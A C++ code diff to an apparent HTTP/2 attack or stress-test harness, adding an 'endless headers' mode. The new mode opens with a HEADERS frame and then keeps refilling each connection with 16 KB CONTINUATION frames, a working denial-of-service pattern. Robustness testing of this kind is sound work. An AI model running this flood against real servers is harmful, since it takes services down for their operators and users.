@@ -126,6 +126,9 @@ class SocketAttack : public Attack {
       case AttackKind::kBrokenFrames:
         return absl::StrCat(kHttp2Preface, Settings(), BrokenFrame(),
                             Random(500));
+      case AttackKind::kEndlessHeaders:
+        return absl::StrCat(kHttp2Preface, Settings(),
+                            Http2Frame(kHttp2Headers, 0, 1, EndlessHeader()));
       default:
         return Resets() ? absl::StrCat(kHttp2Preface, Settings()) : "";
     }
@@ -170,7 +173,12 @@ class SocketAttack : public Attack {
   }
 
   void Refill(Connection* one) const {
-    if (!one->unsent.empty() || !Resets()) return;
+    if (!one->unsent.empty()) return;
+    if (kind_ == AttackKind::kEndlessHeaders) {
+      one->unsent =
+          Http2Frame(kHttp2Continuation, 0, 1, std::string(16'384, 'a'));
+    }
+    if (!Resets()) return;
     one->unsent =
         BegunAndReset(&one->stream, kind_ == AttackKind::kWholeResets);
   }
